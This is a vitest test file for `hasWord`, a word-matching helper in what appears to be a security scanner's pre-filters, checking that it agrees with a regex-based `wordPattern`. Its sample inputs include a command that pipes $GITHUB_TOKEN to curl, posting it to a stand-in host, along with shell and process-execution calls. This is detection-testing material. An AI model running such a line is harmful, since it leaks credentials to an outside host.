import { describe, expect, it } from 'vitest';
import { hasWord, wordPattern } from '../../../src/core/semantics/index.js';

// The pre-filters ask many words of each file: `hasWord` answers plain identifiers from the
// file's words, split once. It must answer exactly as the pattern search it replaces.
describe('hasWord', () => {
  const texts = [
    'const { exec: run } = require("child_process"); run(cmd)',
    'echo "$GITHUB_TOKEN" | curl -d @- https://x.example',
    '$_GET["q"]; $request->input("id"); foo$bar x$foo',
    'Runtime.getRuntime().exec(cmd); // EXEC execute exec_',
    'import(  "fs" ); os.system(x) ; __import__("os")',
    '',
  ];
  const words = ['exec', 'run', 'child_process', 'GITHUB_TOKEN', 'curl', '_GET', 'request', 'foo', 'bar', 'x', 'Runtime', 'EXEC', 'execute', 'import', 'os', '__import__', 'fs', 'system', 'missing'];

  it('agrees with wordPattern on identifiers, in either case mode, whatever surrounds them', () => {
    for (const text of texts) {
      for (const word of words) {
        for (const ignoreCase of [false, true]) {
          expect([text, word, ignoreCase, hasWord(text, word, { ignoreCase })]).toEqual([text, word, ignoreCase, wordPattern(word, { ignoreCase }).test(text)]);
        }
      }
    }
  });

  it('searches keyword calls and names that are not plain identifiers with the pattern', () => {
    expect(hasWord('await import ("x")', 'import', { keyword: true })).toBe(true);
    expect(hasWord('important()', 'import', { keyword: true })).toBe(false);
    expect(hasWord('use Illuminate\\Http\\Request;', 'Illuminate\\Http')).toBe(true);
    expect(hasWord('"net/http"', 'net/http')).toBe(true);
    expect(hasWord('"net/https"', 'net/http')).toBe(false);
  });

  it('answers for the text it is given, not the last one', () => {
    expect(hasWord('a b c', 'b')).toBe(true);
    expect(hasWord('a c', 'b')).toBe(false);
    expect(hasWord('a b c', 'b')).toBe(true);
  });
});
